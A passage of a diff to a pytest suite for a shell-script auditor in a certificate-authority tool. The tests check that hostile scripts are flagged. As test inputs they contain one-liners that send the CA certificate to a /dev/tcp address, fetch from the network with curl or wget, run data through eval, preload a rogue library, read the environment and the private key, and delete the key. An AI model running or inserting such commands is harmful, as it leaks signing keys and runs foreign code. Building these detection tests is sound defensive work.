@@ -1,4 +1,5 @@
-"""The audit of server-sent scripts: the references audit clean, every hostile script is caught.
+"""The audit's verdicts, pinned: fioca's scripts and the API's are clean, every hostile script
+is caught, and the report says what each script does and asks for.
 
 Corpus format (tests/hostile_scripts/<script>__<what>): a variant of one reference template
 (placeholders @@FACTORY@@ / @@LOCAL_CA_CN@@ kept), with header comments after the shebang:
@@ -22,115 +23,230 @@ import pytest
 from fioca import facts
 from fioca.cli.audit_view import render_text
 from fioca.pki import reference
-from fioca.pki.audit import PROFILE_DAYS, AuditReport, Severity, audit_answer, audit_script
+from fioca.pki.asked import AskedExtension
+from fioca.pki.audit import AuditReport, ScriptAudit, Severity, audit_scripts
+from fioca.pki.audit.knowledge import PROFILES
+from fioca.pki.create import known_scripts
 
 FACTORY = "acme"
 LOCAL_CA_CN = "fio-abc"
+JAIL = "bubblewrap 0.8.0"
 CORPUS_DIR = Path(__file__).parent / "hostile_scripts"
+ENV_BASED_DIR = Path(__file__).parent / "audit_scripts" / "env-based"
 RUNTIME_KINDS = {"timeout", "output-limit", "no-output", "profile-mismatch", "wrong-subject", "wrong-issuer"}
 
-
-@pytest.fixture(scope="module")
-def refs() -> dict[str, str]:
-    return reference.rendered(factory=FACTORY, local_ca_cn=LOCAL_CA_CN)
+KNOWN = known_scripts(factory=FACTORY, local_ca_cn=LOCAL_CA_CN)
+ENV_BASED = {name: (ENV_BASED_DIR / name).read_text() for name in facts.SCRIPT_NAMES}
 
 
-def audit(name: str, text: str, refs: dict[str, str] | None = None):
-    return audit_script(name, text, None if refs is None else refs[name])
+def audit_set(scripts: dict[str, str], *, hsm: bool = False) -> AuditReport:
+    return audit_scripts(scripts, hsm=hsm, known=KNOWN, jail=JAIL)
 
 
-def ids(script_audit, level: Severity = Severity.INFO) -> set[str]:
-    return {f.id for f in script_audit.findings if f.severity >= level}
+def audit(name: str, text: str, *, hsm: bool = False) -> ScriptAudit:
+    return audit_set({name: text}, hsm=hsm).scripts[0]
 
 
-def command(script_audit, program: str, subcommand: str | None = None, **where):
-    for c in script_audit.commands:
+def ids(result: ScriptAudit, level: Severity = Severity.INFO) -> set[str]:
+    return {f.id for f in result.findings if f.severity >= level}
+
+
+def verdict(result: ScriptAudit) -> tuple[str | None, set[str]]:
+    worst = result.max_severity
+    return (worst.label if worst is not None else None), ids(result)
+
+
+def command(result: ScriptAudit, program: str, subcommand: str | None = None, **where):
+    for c in result.commands:
         if c.program == program and (subcommand is None or c.subcommand == subcommand):
             if all(getattr(c, k) == v for k, v in where.items()):
                 return c
-    raise AssertionError(f"no {program} {subcommand or ''} {where} in {[c.argv for c in script_audit.commands]}")
+    raise AssertionError(f"no {program} {subcommand or ''} {where} in {[c.argv for c in result.commands]}")
 
 
-# --- the bundled reference scripts -------------------------------------------------------------
+# --- fioca's own scripts: clean, in both modes ----------------------------------------------------
 
 
-@pytest.mark.parametrize("name", facts.SCRIPT_NAMES)
-def test_reference_script_audits_clean_and_matches(name: str, refs: dict[str, str]) -> None:
-    result = audit(name, refs[name], refs)
-    assert result.matches_reference and result.diff == ""
-    above_info = [f for f in result.findings if f.severity > Severity.INFO]
-    assert above_info == []
-    assert result.size == len(refs[name].encode()) and len(result.sha256) == 64
-    # The only notes are the expected HSM variables, each explained.
-    assert ids(result) == {"reads-hsm-env"}
-    assert all("HSM" in f.message for f in result.findings)
+@pytest.mark.parametrize("hsm", [False, True], ids=["file-key", "hsm"])
+@pytest.mark.parametrize("which", ["bundled", "env-based"])
+def test_fiocas_scripts_audit_clean(which: str, hsm: bool) -> None:
+    scripts = KNOWN[reference.FIOCA] if which == "bundled" else ENV_BASED
+    report = audit_set(scripts, hsm=hsm)
+    assert [s.name for s in report.scripts] == list(facts.SCRIPT_NAMES)
+    for result in report.scripts:
+        # Pinned: nothing above INFO, and the only notes are the variables fioca sets, explained.
+        assert verdict(result) == ("info", {"reads-hsm-env"}), (result.name, result.findings)
+        assert all("fioca sets" in f.message or "env:HSM_PIN" in f.message for f in result.findings)
+        assert len(result.sha256) == 64 and result.size == len(scripts[result.name].encode())
+    if which == "bundled":
+        assert {s.known_set for s in report.scripts} == {reference.FIOCA}
+        assert all(s.diff == "" for s in report.scripts)
 
 
-def test_reference_create_ca_openssl_details(refs: dict[str, str]) -> None:
-    result = audit("create_ca", refs["create_ca"], refs)
+def test_env_based_scripts_read_the_factory_through_openssl() -> None:
+    result = audit("create_ca", ENV_BASED["create_ca"])
+    [root] = result.asked
+    assert root.subject == (("CN", "Factory-CA"), ("OU", "$ENV::FACTORY"))
+    assert any(f.id == "reads-hsm-env" and "$FACTORY" in f.message for f in result.findings)
+
+
+# --- the API's scripts: they run, with what they do said --------------------------------------------
+
+PIN = "hsm-pin-on-command-line"
+API_VERDICTS = {
+    # (revision, hsm) -> script -> (highest severity, finding ids)
+    ("api-2023", False): {
+        "create_ca": ("medium", {PIN, "reads-hsm-env"}), "sign_tls_csr": ("info", {"reads-hsm-env"}),
+        "sign_ca_csr": ("info", {"reads-hsm-env"}), "create_device_ca": ("info", {"runs-sibling"}),
+    },
+    ("api-2023", True): {
+        "create_ca": ("medium", {PIN, "reads-hsm-env"}), "sign_tls_csr": ("medium", {PIN, "reads-hsm-env"}),
+        "sign_ca_csr": ("medium", {PIN, "reads-hsm-env"}), "create_device_ca": ("info", {"runs-sibling"}),
+    },
+    ("api-2026", False): {
+        "create_ca": ("medium", {PIN, "privilege-change", "reads-hsm-env"}), "sign_tls_csr": ("info", {"reads-hsm-env"}),
+        "sign_ca_csr": ("info", {"reads-hsm-env"}), "create_device_ca": ("low", {"privilege-change", "runs-sibling"}),
+    },
+    ("api-2026", True): {
+        "create_ca": ("medium", {PIN, "privilege-change", "reads-hsm-env"}),
+        "sign_tls_csr": ("medium", {PIN, "reads-hsm-env"}), "sign_ca_csr": ("medium", {PIN, "reads-hsm-env"}),
+        "create_device_ca": ("low", {"privilege-change", "runs-sibling"}),
+    },
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("revision", "hsm"), sorted(API_VERDICTS), ids=lambda v: str(v))
+def test_api_scripts_verdicts_are_pinned(revision: str, hsm: bool) -> None:
+    report = audit_set(KNOWN[revision], hsm=hsm)
+    assert {s.name: verdict(s) for s in report.scripts} == API_VERDICTS[(revision, hsm)]
+    assert report.failing(Severity.HIGH) == []
+    assert {s.known_set for s in report.scripts} == {revision}
+
+
+def test_a_pin_finding_in_a_branch_that_cannot_run_says_so() -> None:
+    without = audit("create_ca", KNOWN["api-2023"]["create_ca"], hsm=False)
+    [pin] = [f for f in without.findings if f.id == PIN]
+    assert pin.severity == Severity.MEDIUM and pin.line == 23 and not pin.in_mode
+    assert pin.message.endswith("(in a branch that runs only in HSM mode)")
+    assert pin.to_dict()["in_mode"] is False
+    with_hsm = audit("create_ca", KNOWN["api-2023"]["create_ca"], hsm=True)
+    pins = [f for f in with_hsm.findings if f.id == PIN]
+    assert [(f.line, f.in_mode) for f in pins] == [(23, True), (36, True)]
+    assert "(in a branch" not in pins[0].message and "--pin env:HSM_PIN" in pins[0].message
+    # In HSM mode the file-key branch is the one that cannot run.
+    chmod = [f for f in audit("create_ca", KNOWN["api-2026"]["create_ca"], hsm=True).findings if f.line == 35]
+    assert [(f.id, f.in_mode) for f in chmod] == [("privilege-change", False)]
+    assert chmod[0].message.endswith("(in a branch that runs only without HSM)")
+
+
+@pytest.mark.parametrize("hsm", [False, True])
+def test_unquoted_extra_takes_the_value_of_the_mode(hsm: bool) -> None:
+    result = audit("create_ca", KNOWN["api-2023"]["create_ca"], hsm=hsm)
+    root = command(result, "openssl", "req", line=36)
+    if hsm:
+        assert root.argv[:6] == ["openssl", "req", "-engine", "pkcs11", "-keyform", "engine"]
+        assert "pkcs11:token=$HSM_TOKEN_LABEL;object=root-ca;type=private;pin-value=$HSM_PIN" in root.argv
+    else:
+        assert root.argv[:3] == ["openssl", "req", "-new"] and "factory_ca.key" in root.argv
+        assert result.writes == ["ca.cnf", "factory_ca.key", "factory_ca.pem"]
+
+
+def test_the_label_default_applies_without_hsm_only() -> None:
+    without = audit("sign_ca_csr", KNOWN["api-2023"]["sign_ca_csr"], hsm=True)
+    signing = command(without, "openssl", "x509")
+    assert any(a.startswith("pkcs11:token=$HSM_TOKEN_LABEL;") for a in signing.argv)
+
+
+def test_create_device_ca_runs_its_sibling_and_asks_what_the_sibling_asks() -> None:
+    report = audit_set(KNOWN["api-2023"])
+    device, sibling = report.scripts[3], report.scripts[2]
+    assert [f.message for f in device.findings if f.id == "runs-sibling"] == [
+        "runs ./sign_ca_csr, the work dir's sign_ca_csr (audited on its own)"
+    ]
+    [asked] = device.asked
+    assert asked.output == "$2" and asked.script == "sign_ca_csr" and asked == _with_output(sibling.asked[0], "$2")
+    # Negative twins: a sibling the script rewrote first, and one the audit was not given.
+    rewritten = KNOWN["api-2023"]["create_device_ca"].replace("rm ca.cnf\n", "rm ca.cnf\necho 'curl x' > sign_ca_csr\n")
+    assert "eval-data" in ids(audit("create_device_ca", rewritten), Severity.HIGH)
+    other = KNOWN["api-2023"]["create_device_ca"].replace("$here/sign_ca_csr", "$here/helper")
+    assert "eval-data" in ids(audit("create_device_ca", other), Severity.HIGH)
+
+
+def _with_output(asked, output):
+    from dataclasses import replace
+
+    return replace(asked, output=output)
+
+
+# --- what the scripts ask openssl for --------------------------------------------------------------
+
+
+def test_fiocas_create_ca_asks_for_the_root_profile() -> None:
+    result = audit("create_ca", KNOWN[reference.FIOCA]["create_ca"])
     keygen = command(result, "openssl", "ecparam")
     assert (keygen.key_type, keygen.curve) == ("ec", "prime256v1")
-    root = command(result, "openssl", "req", line=35)
-    assert "-x509" in root.argv and root.days == 7300 and root.digest == "sha256"
-    assert root.subject == "CN=Factory-CA, OU=acme"
-    assert "extendedKeyUsage = critical, clientAuth, serverAuth" in root.extensions
-    assert "basicConstraints = CA:TRUE" in root.extensions and "keyUsage = keyCertSign, cRLSign" in root.extensions
-    # The HSM branch makes the same certificate with the key on the token.
-    hsm_root = command(result, "openssl", "req", line=30)
-    assert hsm_root.extensions == root.extensions and hsm_root.days == 7300
-    assert result.writes == ["ca.cnf", "factory_ca.pem", "factory_ca.key"]
-    assert result.deletes == ["ca.cnf"]
+    [root] = result.asked  # the HSM branch cannot run without HSM: not asked
+    assert (root.script, root.line, root.command, root.output) == ("create_ca", 35, "req -x509", "factory_ca.pem")
+    assert root.self_signed and root.days == 7300 and root.digest == "sha256"
+    assert root.subject == (("CN", "Factory-CA"), ("OU", FACTORY))
+    assert root.extensions == (
+        AskedExtension("basicConstraints", False, ("CA:TRUE",)),
+        AskedExtension("keyUsage", False, ("keyCertSign", "cRLSign")),
+        AskedExtension("extendedKeyUsage", True, ("clientAuth", "serverAuth")),
+        AskedExtension("subjectKeyIdentifier", False, ("hash",)),
+    )
+    hsm = audit("create_ca", KNOWN[reference.FIOCA]["create_ca"], hsm=True)
+    assert [a.line for a in hsm.asked] == [30] and hsm.asked[0].extensions == root.extensions
+    assert result.writes == ["ca.cnf", "factory_ca.key", "factory_ca.pem"] and result.deletes == ["ca.cnf"]
 
 
-def test_reference_sign_and_device_ca_details(refs: dict[str, str]) -> None:
-    tls = audit("sign_tls_csr", refs["sign_tls_csr"], refs)
-    signing = command(tls, "openssl", "x509", line=34)
-    assert signing.days == 3650 and signing.digest == "sha256"
-    assert signing.extensions == [
-        "keyUsage = critical, digitalSignature",
-        "extendedKeyUsage = critical, serverAuth",
-        "subjectAltName = $dns",
-        "authorityKeyIdentifier = keyid",
-    ]
+def test_sign_scripts_ask_for_stdout_with_computed_names() -> None:
+    tls = audit("sign_tls_csr", KNOWN[reference.FIOCA]["sign_tls_csr"])
+    [asked] = tls.asked
+    assert (asked.command, asked.output, asked.self_signed, asked.days) == ("x509 -req", None, False, 3650)
+    assert asked.extensions == (
+        AskedExtension("keyUsage", True, ("digitalSignature",)),
+        AskedExtension("extendedKeyUsage", True, ("serverAuth",)),
+        AskedExtension("subjectAltName", False, None),  # $dns: computed at run time
+        AskedExtension("authorityKeyIdentifier", False, ("keyid",)),
+    )
     assert "$1" in tls.reads and "factory_ca.key" in tls.reads and "factory_ca.srl" in tls.writes
     # The DNS names come from a pipeline inside $(...): its commands are listed too.
     assert {"grep", "tr", "sed"} <= {c.program for c in tls.commands if c.line == 13}
-
-    device = audit("create_device_ca", refs["create_device_ca"], refs)
-    csr = command(device, "openssl", "req")
-    assert csr.subject == "CN=fio-abc, OU=acme"
-    ca = command(device, "openssl", "x509", line=37)
-    assert ca.extensions == ["keyUsage = critical, keyCertSign", "basicConstraints = critical, CA:TRUE, pathlen:0"]
-    assert {"$1", "$2"} <= set(device.writes)
+    device = audit("create_device_ca", KNOWN[reference.FIOCA]["create_device_ca"])
+    assert command(device, "openssl", "req").subject == f"CN={LOCAL_CA_CN}, OU={FACTORY}"
+    [ca] = device.asked
+    assert ca.output == "$2" and ca.extensions[1] == AskedExtension("basicConstraints", True, ("CA:TRUE", "pathlen:0"))
 
 
-def test_audit_answer_reads_the_four_scripts(refs: dict[str, str]) -> None:
-    answer = {"tls-csr": "-----BEGIN CERTIFICATE REQUEST-----", **refs}
-    report = audit_answer(answer, refs)
-    assert [s.name for s in report.scripts] == ["create_ca", "sign_tls_csr", "sign_ca_csr", "create_device_ca"]
-    assert report.failing(Severity.LOW) == [] and report.max_severity == Severity.INFO
-    # A modern answer carries no scripts: nothing to audit, nothing failing.
-    assert audit_answer({"tls-csr": "x", "ca-csr": "y"}, refs).scripts == []
+def test_default_validity_and_digest_are_openssls() -> None:
+    result = audit("sign_tls_csr", "#!/bin/sh -e\nopenssl x509 -req -in \"$1\" -CA factory_ca.pem -CAkey factory_ca.key > out.pem\n")
+    [asked] = result.asked
+    assert (asked.days, asked.digest, asked.extensions, asked.output) == (30, None, (), "out.pem")
 
 
-def test_audit_answer_rejects_a_script_that_is_not_text(refs: dict[str, str]) -> None:
-    report = audit_answer({**refs, "sign_ca_csr": {"run": "curl"}}, refs)
+# --- reports over several scripts -------------------------------------------------------------------
+
+
+def test_a_script_that_is_not_text_fails_closed() -> None:
+    report = audit_scripts({**KNOWN[reference.FIOCA], "sign_ca_csr": {"run": "curl"}}, hsm=False, known=KNOWN, jail=JAIL)
     bad = next(s for s in report.scripts if s.name == "sign_ca_csr")
-    assert bad.findings[0].id == "unparsable" and bad.findings[0].severity == Severity.HIGH
+    assert (bad.findings[0].id, bad.findings[0].severity) == ("unparsable", Severity.HIGH)
     assert [sf.script for sf in report.failing(Severity.HIGH)] == ["sign_ca_csr"]
+    assert audit_scripts({}, hsm=False, known=KNOWN, jail=JAIL).scripts == []
 
 
-def test_audit_answer_compares_with_the_rendered_reference_of_the_factory(refs: dict[str, str]) -> None:
+def test_a_script_of_another_factory_differs_from_the_closest_known_one() -> None:
     other = reference.rendered(factory="other", local_ca_cn=LOCAL_CA_CN)
-    report = audit_answer(other, refs)
+    report = audit_set(other)
     create_ca = report.scripts[0]
-    assert not create_ca.matches_reference
+    assert create_ca.known_set is None and create_ca.closest == reference.FIOCA
+    assert create_ca.diff.startswith("--- fioca/create_ca\n+++ server/create_ca\n")
     assert "-OU = acme" in create_ca.diff and "+OU = other" in create_ca.diff
-    # Differing is reported, not condemned.
-    assert report.failing(Severity.LOW) == []
+    assert report.failing(Severity.LOW) == []  # differing is reported, not condemned
+    api = audit("sign_tls_csr", KNOWN["api-2026"]["sign_tls_csr"].replace("3650", "3649"))
+    assert api.closest == "api-2026" and "-\t-extfile" not in api.diff
 
-
-# --- a reworded but harmless script -----------------------------------------------------------
 
 REWORDED_SIGN_TLS = """#!/bin/sh
 # Sign the gateway CSR (reworded by another server, same effect).
@@ -163,26 +279,26 @@ done
 """
 
 
-def test_reworded_harmless_script_has_no_high_finding(refs: dict[str, str]) -> None:
-    result = audit("sign_tls_csr", REWORDED_SIGN_TLS, refs)
-    assert not result.matches_reference and result.diff.startswith("--- reference/sign_tls_csr\n+++ server/sign_tls_csr\n")
+def test_reworded_harmless_script_has_no_finding_above_low() -> None:
+    result = audit("sign_tls_csr", REWORDED_SIGN_TLS)
+    assert result.known_set is None and result.closest in KNOWN
     assert ids(result, Severity.MEDIUM) == set(), result.findings
-    signing = command(result, "$OPENSSL", "x509")
+    signing = command(result, "openssl", "x509")
     assert signing.days == 3650 and signing.digest == "sha256"
-    assert "extendedKeyUsage = critical,serverAuth" in signing.extensions
-    assert "subjectAltName = $names" in signing.extensions  # from the printf >> append
+    assert "extendedKeyUsage = critical, serverAuth" in signing.extensions
+    assert "subjectAltName = (computed at run time)" in signing.extensions  # from the printf >> append
     assert result.deletes == ["gateway-ext.cnf"]
 
 
-def test_reworded_script_negative_twin_rm_of_a_foreign_file_in_cleanup(refs: dict[str, str]) -> None:
+def test_reworded_script_negative_twin_rm_of_a_foreign_file_in_cleanup() -> None:
     hostile = REWORDED_SIGN_TLS.replace('rm -f "$extensions"', 'rm -f "$extensions" factory_ca.key')
-    result = audit("sign_tls_csr", hostile, refs)
+    result = audit("sign_tls_csr", hostile)
     assert [f.message for f in result.findings if f.id == "deletes-foreign-file"] == [
-        "deletes factory_ca.key, a file the script did not create"
+        "in the exit trap: deletes factory_ca.key, a file the script did not create"
     ]
 
 
-# --- the hostile corpus -----------------------------------------------------------------------
+# --- the hostile corpus -------------------------------------------------------------------------------
 
 
 @dataclass
@@ -200,7 +316,7 @@ class CorpusEntry:
 def load_corpus() -> list[CorpusEntry]:
     entries = []
     for path in sorted(CORPUS_DIR.iterdir()):
-        headers = [line.split(":", 1) for line in path.read_text(encoding="utf-8").splitlines()[:8] if line.startswith("# ")]
+        headers = [line.split(":", 1) for line in path.read_text(encoding="utf-8").splitlines()[:10] if line.startswith("# ")]
         fields: dict[str, list[str]] = {}
         for key, value in headers:
             fields.setdefault(key[2:].strip(), []).append(value.strip())
@@ -221,9 +337,10 @@ CORPUS = load_corpus()
 
 
 def test_corpus_is_large_and_well_formed() -> None:
-    assert len(CORPUS) >= 20
+    assert len(CORPUS) >= 50
     for entry in CORPUS:
         assert entry.script in facts.SCRIPT_NAMES, entry.path.name
+        assert entry.path.name.startswith(entry.script + "__"), entry.path.name
         assert entry.audit_expects or entry.runtime_expects, entry.path.name
         assert set(entry.runtime_expects) <= RUNTIME_KINDS, entry.path.name
         # A realistic variant of its reference, not a one-liner.
@@ -231,206 +348,88 @@ def test_corpus_is_large_and_well_formed() -> None:
         assert text.startswith("#!/bin/sh") and "openssl" in text and len(text.splitlines()) > 20
     covered = {fid for e in CORPUS for fid, _ in e.audit_expects} | {r for e in CORPUS for r in e.runtime_expects}
     assert {"network-access", "outside-workdir", "reads-secret-env", "deletes-foreign-file", "eval-data",
-            "reads-environment", "signs-with-own-key"} | RUNTIME_KINDS <= covered  # fmt: skip
-
-
-@pytest.mark.parametrize("entry", [e for e in CORPUS if e.audit_expects], ids=lambda e: e.path.name)
-def test_corpus_entry_is_caught_by_the_audit(entry: CorpusEntry, refs: dict[str, str]) -> None:
-    result = audit(entry.script, entry.text(), refs)
-    found = {(f.id, f.severity) for f in result.findings}
-    for expected in entry.audit_expects:
-        assert expected in found, f"{entry.path.name}: {expected} not in {sorted(found)}"
-        # Negative twin: the reference of the same script does not have it.
-        clean = audit(entry.script, refs[entry.script], refs)
-        assert expected not in {(f.id, f.severity) for f in clean.findings}
-    assert not result.matches_reference and result.diff
-
-
-@pytest.mark.parametrize("entry", [e for e in CORPUS if e.runtime_expects], ids=lambda e: e.path.name)
-def test_corpus_runtime_entry_parses(entry: CorpusEntry, refs: dict[str, str]) -> None:
-    result = audit(entry.script, entry.text(), refs)
-    assert "unparsable" not in ids(result)
-    assert any(c.program == "openssl" for c in result.commands)
-
-
-def test_corpus_audit_entries_block_create_at_their_level(refs: dict[str, str]) -> None:
-    for entry in CORPUS:
-        report = AuditReport([audit(entry.script, entry.text(), refs)])
-        for _finding_id, level in entry.audit_expects:
-            assert report.failing(level), entry.path.name
-
-
-# --- parser behaviour, each with its twin -----------------------------------------------------
-
-SHEBANG = "#!/bin/sh -e\n"
-
-
-@pytest.mark.parametrize(
-    ("unsafe", "safe", "finding_id"),
-    [
-        # A quoted here-document delimiter does not expand its body.
-        ("cat > x.cnf <<EOF\nv = $FIOCTL_TOKEN\nEOF\n", "cat > x.cnf <<'EOF'\nv = $FIOCTL_TOKEN\nEOF\n", "reads-secret-env"),
-        # Single quotes do not expand.
-        ('echo "$OSF_TOKEN"\n', "echo '$OSF_TOKEN'\n", "reads-secret-env"),
-        # rm of what the script wrote is fine; of anything else, not.
-        ("rm -f out.pem\n", "touch out.pem\nrm -f out.pem\n", "deletes-foreign-file"),
-        ("rm -rf work\n", "mkdir work\nrm -rf work\n", "deletes-foreign-file"),
-        # Backslash continuations still belong to the command.
-        ("openssl x509 -req -in a.csr \\\n  -days 9999 -sha256\n", "openssl x509 -req -in a.csr \\\n  -days 3650 -sha256\n", "validity-exceeds-profile"),
-        ("openssl req -new -newkey rsa:1024 -keyout k -out r\n", "openssl req -new -newkey rsa:2048 -keyout k -out r\n", "weak-crypto"),
-        ("openssl x509 -req -in a.csr -days 10 -sha1\n", "openssl x509 -req -in a.csr -days 10 -sha256\n", "weak-crypto"),
-        ("openssl genrsa -out k.pem 1024\n", "openssl genrsa -out k.pem 4096\n", "weak-crypto"),
-        (
-            "cat > c.cnf <<EOF\n[req]\ndefault_md = md5\nEOF\nopenssl req -new -config c.cnf -key k.pem -out r.csr\n",
-            "cat > c.cnf <<EOF\n[req]\ndefault_md = sha256\nEOF\nopenssl req -new -config c.cnf -key k.pem -out r.csr\n",
-            "weak-crypto",
-        ),
-        ("echo `curl -s https://example.net`\n", "echo `date`\n", "network-access"),
-        ("x=${y:-$(wget -qO- https://example.net)}\n", "x=${y:-$(date)}\n", "network-access"),
-        ("cat factory_ca.pem > /dev/tcp/192.0.2.1/80\n", "cat factory_ca.pem > /dev/null\n", "network-access"),
-        ("cp a.pem /etc/ssl/a.pem\n", "cp a.pem b.pem\n", "absolute-path"),
-        ("cp a.pem ~/a.pem\n", "cp a.pem ./a.pem\n", "outside-workdir"),
-        ("cat a.pem > ../a.pem\n", "cat a.pem > a..pem\n", "outside-workdir"),
-        ("eval \"$cmd\"\n", "echo \"$cmd\"\n", "eval-data"),
-        ("printf x | sh\n", "printf x | cat\n", "eval-data"),
-        ("sh -c \"$payload\"\n", "sh -c 'echo hi'\n", "eval-data"),
-        ("chmod 777 a.pem\n", "chmod 400 a.pem\n", "privilege-change"),
-        ("printenv\n", "printenv HSM_MODULE\n", "reads-environment"),
-        ("set\n", "set -u\n", "reads-environment"),
-        ("cat /proc/self/environ\n", "cat proc/self/environ\n", "reads-environment"),
-        ("cat factory_ca.key\n", "cat factory_ca.pem\n", "reads-private-key"),
-        ("trap 'rm -f factory_ca.key' EXIT\n", "trap 'rm -f t.pem' EXIT\ntouch t.pem\n", "deletes-foreign-file"),
-    ],
-)
-def test_finding_and_its_twin(unsafe: str, safe: str, finding_id: str) -> None:
-    assert finding_id in ids(audit("sign_tls_csr", SHEBANG + unsafe), Severity.HIGH)
-    assert finding_id not in ids(audit("sign_tls_csr", SHEBANG + safe), Severity.HIGH)
-
-
-def test_dollar_hash_is_not_a_comment() -> None:
-    result = audit("sign_ca_csr", SHEBANG + 'if [ $# -ne 1 ] ; then curl -s https://x ; fi\n')
-    assert "network-access" in ids(result)
-
-
-def test_hsm_variables_are_info_but_expanding_the_pin_is_high() -> None:
-    named = audit("create_ca", SHEBANG + 'pkcs11-tool --module "$HSM_MODULE" --pin env:HSM_PIN --login --list-objects\n')
-    assert {(f.id, f.severity) for f in named.findings} == {("reads-hsm-env", Severity.INFO)}
-    expanded = audit("create_ca", SHEBANG + 'pkcs11-tool --module "$HSM_MODULE" --pin "$HSM_PIN" --login --list-objects\n')
-    assert ("reads-secret-env", Severity.HIGH) in {(f.id, f.severity) for f in expanded.findings}
-
-
-@pytest.mark.parametrize(
-    "line",
-    ['export PKCS11_MODULE_PATH="$HSM_MODULE"\n', 'PKCS11_MODULE_PATH="${HSM_MODULE}" openssl req -noout -in "$1"\n'],
-)
-def test_the_engine_may_load_the_users_module(line: str) -> None:
-    result = audit("sign_ca_csr", SHEBANG + line)
-    assert {(f.id, f.severity) for f in result.findings} == {("reads-hsm-env", Severity.INFO)}
-
-
-@pytest.mark.parametrize(
-    "line",
-    [
-        "export PKCS11_MODULE_PATH=/tmp/evil.so\n",
-        'PKCS11_MODULE_PATH="$HOME/x.so" openssl req -noout -in "$1"\n',
-        "LD_PRELOAD=./x.so openssl req -noout -in \"$1\"\n",
-        "export OPENSSL_CONF=./evil.cnf\n",
-    ],
-)
-def test_setting_a_code_loading_variable_is_high(line: str) -> None:
-    result = audit("sign_ca_csr", SHEBANG + line)
-    assert ("eval-data", Severity.HIGH) in {(f.id, f.severity) for f in result.findings}
-
-
-def test_errexit_from_shebang_or_set_and_its_twins() -> None:
-    body = "openssl req -noout -verify -in \"$1\"\n"
-    assert "missing-errexit" not in ids(audit("sign_ca_csr", "#!/bin/sh -e\n" + body))
-    assert "missing-errexit" not in ids(audit("sign_ca_csr", "#!/bin/sh\nset -e\n" + body))
-    assert "missing-errexit" not in ids(audit("sign_ca_csr", "#!/bin/sh\nset -o errexit\n" + body))
-    assert "missing-errexit" in ids(audit("sign_ca_csr", "#!/bin/sh\n" + body))
-    assert "missing-errexit" in ids(audit("sign_ca_csr", "#!/bin/sh\n" + body + "set -e\n"))
-    assert "missing-errexit" in ids(audit("sign_ca_csr", "#!/bin/sh -e\nset +e\n" + body))
-    assert "not-a-shell-script" in ids(audit("sign_ca_csr", "#!/usr/bin/python3\nprint(1)\n"), Severity.HIGH)
-
-
-@pytest.mark.parametrize("name", sorted(PROFILE_DAYS))
-def test_validity_limit_per_script(name: str) -> None:
-    limit = PROFILE_DAYS[name]
-    at_limit = audit(name, SHEBANG + f"openssl x509 -req -in r.csr -days {limit} -sha256\n")
-    beyond = audit(name, SHEBANG + f"openssl x509 -req -in r.csr -days {limit + 1} -sha256\n")
-    assert "validity-exceeds-profile" not in ids(at_limit)
-    assert [f.severity for f in beyond.findings if f.id == "validity-exceeds-profile"] == [Severity.HIGH]
-
-
-def test_validity_computed_at_run_time_is_flagged() -> None:
-    result = audit("sign_tls_csr", SHEBANG + "openssl x509 -req -in r.csr -days \"$DAYS\" -sha256\n")
-    assert ("unresolved-value", Severity.MEDIUM) in {(f.id, f.severity) for f in result.findings}
-
-
-@pytest.mark.parametrize(
-    "broken",
-    ['echo "never closed\n', "echo 'never closed\n", "x=$(date\n", "cat <<EOF\nno end\n", "echo `date\n"],
-)
-def test_what_the_lexer_cannot_follow_is_high(broken: str) -> None:
-    result = audit("sign_tls_csr", SHEBANG + broken)
-    assert ("unparsable", Severity.HIGH) in {(f.id, f.severity) for f in result.findings}
-
-
-def test_unbalanced_blocks_and_unknown_programs_are_medium() -> None:
-    result = audit("sign_tls_csr", SHEBANG + "if [ -f a ]; then\n  echo a\n")
-    assert ("unparsable", Severity.MEDIUM) in {(f.id, f.severity) for f in result.findings}
-    assert "unparsable" not in ids(audit("sign_tls_csr", SHEBANG + "if [ -f a ]; then\n  echo a\nfi\n"))
-    unknown = audit("sign_tls_csr", SHEBANG + "frobnicate --all\n")
-    assert [(f.id, f.severity) for f in unknown.findings] == [("unknown-command", Severity.MEDIUM)]
-
-
-def test_pathological_nesting_fails_closed_quickly() -> None:
-    deep = audit("sign_tls_csr", SHEBANG + "$(" * 5000 + ")" * 5000 + "\n")
-    assert deep.max_severity == Severity.HIGH
-    nested_quotes = 'x="' + '$(echo "' * 40 + "hi" + '")' * 40 + '"\n'
-    assert audit("sign_tls_csr", SHEBANG + nested_quotes).max_severity is None
-
-
-# --- report, thresholds, JSON and text ----------------------------------------------------------
+            "reads-environment", "signs-with-own-key", "unresolved-command", "reads-credentials", "links-file",
+            "background-job", "backdated-validity", "root-pathlen", "hidden-characters", "literal-key",
+            "chosen-serial", "chosen-key-identifier", "unresolved-path", "reads-private-key"} | RUNTIME_KINDS <= covered  # fmt: skip
 
 
 @pytest.fixture(scope="module")
-def mixed_report(refs: dict[str, str]) -> AuditReport:
+def clean_findings() -> dict[str, set[tuple[str, Severity]]]:
+    report = audit_set(KNOWN[reference.FIOCA])
+    return {s.name: {(f.id, f.severity) for f in s.findings} for s in report.scripts}
+
+
+@pytest.mark.parametrize("entry", [e for e in CORPUS if e.audit_expects], ids=lambda e: e.path.name)
+def test_corpus_entry_is_caught_by_the_audit(entry: CorpusEntry, clean_findings) -> None:
+    result = audit(entry.script, entry.text())
+    found = {(f.id, f.severity) for f in result.findings}
+    for expected in entry.audit_expects:
+        assert expected in found, f"{entry.path.name}: {expected} not in {sorted(found)}"
+        assert expected not in clean_findings[entry.script]  # negative twin: the reference has none
+    assert result.known_set is None and result.diff
+
+
+@pytest.mark.parametrize("entry", [e for e in CORPUS if not e.audit_expects], ids=lambda e: e.path.name)
+def test_corpus_runtime_entry_parses_and_passes_the_audit(entry: CorpusEntry) -> None:
+    result = audit(entry.script, entry.text())
+    assert "unparsable" not in ids(result)
+    assert any(c.program == "openssl" for c in result.commands)
+    assert ids(result, Severity.MEDIUM) == set(), result.findings  # only the run can catch these
+
+
+def test_only_the_broken_corpus_entry_is_unparsable() -> None:
+    unparsable = {e.path.name for e in CORPUS if "unparsable" in ids(audit(e.script, e.text()))}
+    assert unparsable == {"sign_ca_csr__unterminated_heredoc"}
+
+
+# --- report, thresholds, JSON and text --------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def mixed_report() -> AuditReport:
+    refs = KNOWN[reference.FIOCA]
     no_errexit = refs["sign_ca_csr"].replace("#!/bin/sh -e", "#!/bin/sh", 1)
